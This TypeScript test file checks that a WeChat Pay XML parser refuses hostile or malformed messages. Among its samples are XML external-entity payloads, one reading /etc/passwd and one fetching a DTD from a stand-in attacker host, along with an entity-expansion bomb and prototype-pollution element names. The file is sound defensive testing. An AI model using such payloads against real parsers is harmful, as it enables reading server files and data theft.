import { describe, expect, it } from 'vitest'
import { parseXml, parseXmlBytes } from '../../../../src/wechat/v2/wire/xml.ts'
import { utf8 } from '../../../../testing/wire/wire.ts'

const reasonOf = (text: string): string => {
  const parsed = parseXmlBytes(utf8(text))
  return parsed.ok ? `read as ${JSON.stringify([...parsed.value])}` : parsed.error.reason
}

const BOMB = `<!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>`
const FILE = `<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>`
const PARAMETER = `<!DOCTYPE xml [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>`

describe('a hostile message is refused', () => {
  it.each([
    ['a DOCTYPE before the root', '<!DOCTYPE xml><xml><a>1</a></xml>'],
    ['a DOCTYPE after the declaration', '<?xml version="1.0"?><!DOCTYPE xml><xml><a>1</a></xml>'],
    ['a DOCTYPE in lower case', '<!doctype xml><xml><a>1</a></xml>'],
    ['a DOCTYPE in the root', '<xml><!DOCTYPE xml><a>1</a></xml>'],
    ['a DOCTYPE in an element', '<xml><a><!DOCTYPE xml>1</a></xml>'],
    ['a DOCTYPE behind the root', '<xml><a>1</a></xml><!DOCTYPE xml>'],
    ['an entity definition', '<xml><!ENTITY e "1"><a>1</a></xml>'],
    ['an entity bomb', `${BOMB}<xml><a>&b;</a></xml>`],
    ['an external entity', `${FILE}<xml><a>&x;</a></xml>`],
    ['an external parameter entity', `${PARAMETER}<xml><a>1</a></xml>`],
    ['an undefined entity', '<xml><a>&e;</a></xml>'],
    ['an entity of HTML', '<xml><a>&nbsp;</a></xml>'],
    ['an entity in capitals', '<xml><a>&LT;</a></xml>'],
    ['an entity without an end', '<xml><a>&lt</a></xml>'],
    ['an entity with a blank', '<xml><a>& lt;</a></xml>'],
    ['a bare ampersand', '<xml><a>a&b</a></xml>'],
    ['a reference without a number', '<xml><a>&#;</a></xml>'],
    ['a reference with a wrong number', '<xml><a>&#x4G;</a></xml>'],
    ['a negative reference', '<xml><a>&#-1;</a></xml>'],
    ['a reference in fullwidth digits', '<xml><a>&#１２；</a></xml>'],
    ['an entity split by CDATA', '<xml><a>&am<![CDATA[]]>p;</a></xml>'],
    ['a reference split by CDATA', '<xml><a>&#<![CDATA[]]>65;</a></xml>'],
    ['a processing instruction', '<xml><?php echo 1 ?><a>1</a></xml>'],
    ['a processing instruction before the root', '<?php echo 1 ?><xml><a>1</a></xml>'],
    ['a style sheet', '<?xml-stylesheet href="x"?><xml><a>1</a></xml>'],
    ['a declaration twice', '<?xml version="1.0"?><?xml version="1.0"?><xml><a>1</a></xml>'],
    ['a declaration in the root', '<xml><?xml version="1.0"?><a>1</a></xml>'],
    ['a declaration without an end', '<?xml version="1.0"><xml><a>1</a></xml>'],
    ['an attribute', '<xml><a b="1">1</a></xml>'],
    ['an attribute of the root', '<xml b="1"><a>1</a></xml>'],
    ['a namespace', '<xml xmlns="urn:x"><a>1</a></xml>'],
    ['a name with a prefix', '<xml><x:a>1</x:a></xml>'],
    ['a comment', '<xml><!-- --><a>1</a></xml>'],
    ['a comment in a value', '<xml><a>1<!-- -->2</a></xml>'],
    ['a comment before the root', '<!-- --><xml><a>1</a></xml>'],
    ['an element in an element', '<xml><a><b>1</b></a></xml>'],
    ['an element beside text', '<xml><a>1<b/></a></xml>'],
    ['an element twice', '<xml><a>1</a><a>1</a></xml>'],
    ['an element twice, once empty', '<xml><a/><b>1</b><a>1</a></xml>'],
    ['two amounts', '<xml><total_fee>1</total_fee><x/><total_fee>100</total_fee></xml>'],
    ['another root', '<root><a>1</a></root>'],
    ['a root in capitals', '<XML><a>1</a></XML>'],
    ['a root whose name only begins with xml', '<xmlx><a>1</a></xmlx>'],
    ['two roots', '<xml><a>1</a></xml><xml><b>1</b></xml>'],
    ['two roots, one empty', '<xml><a>1</a></xml><xml/>'],
    ['an element behind the root', '<xml><a>1</a></xml><a>2</a>'],
    ['an element before the root', '<a>2</a><xml><a>1</a></xml>'],
    ['text before the root', 'x<xml><a>1</a></xml>'],
    ['text behind the root', '<xml><a>1</a></xml>x'],
    ['text in the root', '<xml>x<a>1</a></xml>'],
    ['a reference in the root', '<xml>&#32;<a>1</a></xml>'],
    ['CDATA in the root', '<xml><![CDATA[ ]]><a>1</a></xml>'],
    ['CDATA before the root', '<![CDATA[ ]]><xml><a>1</a></xml>'],
    ['CDATA behind the root', '<xml><a>1</a></xml><![CDATA[ ]]>'],
    ['CDATA in a tag', '<xml><a<![CDATA[x]]>>1</a></xml>'],
    ['CDATA in an end tag', '<xml><a>1</a<![CDATA[x]]>></xml>'],
    ['CDATA in the name of the root', '<xm<![CDATA[]]>l><a>1</a></xml>'],
    ['CDATA without an end', '<xml><a><![CDATA[1</a></xml>'],
    ['CDATA in lower case', '<xml><a><![cdata[1]]></a></xml>'],
    ['the end of CDATA in plain text', '<xml><a>]]></a></xml>'],
    ['the end of CDATA twice', '<xml><a><![CDATA[1]]>]]></a></xml>'],
    ['an unclosed element', '<xml><a>1</xml>'],
    ['an unclosed root', '<xml><a>1</a>'],
    ['a wrong end tag', '<xml><a>1</b></xml>'],
    ['an end tag alone', '<xml></a></xml>'],
    ['end tags in the wrong order', '<xml><a>1</xml></a>'],
    ['an end tag that closes itself', '<xml><a>1</a/></xml>'],
    ['a tag without a name', '<xml><>1</></xml>'],
    ['a name that begins with a digit', '<xml><1a>1</1a></xml>'],
    ['a blank before a name', '<xml>< a>1</a></xml>'],
    ['a very long name', `<xml><${'a'.repeat(1_000)}>1</${'a'.repeat(1_000)}></xml>`],
    ['no content', ''],
    ['only blanks', ' \n\t '],
    ['JSON instead of XML', '{"return_code":"SUCCESS"}'],
    ['form data instead of XML', 'return_code=SUCCESS&sign=1'],
    ['an HTML page instead of XML', '<!DOCTYPE html><html><body>502 Bad Gateway</body></html>'],
  ])('when it has %s', (_, text) => {
    expect(reasonOf(text)).not.toMatch(/^read/)
    expect(parseXml(text).ok).toBe(false)
  })

  it('when it has more elements than any payment', () => {
    const elements = Array.from({ length: 1_000 }, (_, n) => `<a${n}>1</a${n}>`)

    expect(reasonOf(`<xml>${elements.join('')}</xml>`)).toBe('too_many_elements')
  })

  it.each(['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'])(
    'or read literally when an element is called %s',
    (name) => {
      const before = Object.getOwnPropertyNames(Object.prototype)
      const parsed = parseXml(`<xml><${name}>1</${name}></xml>`)

      expect(parsed.ok ? [...parsed.value] : [[name, '1']]).toEqual([[name, '1']])
      expect(Object.getOwnPropertyNames(Object.prototype)).toEqual(before)
    },
  )
})
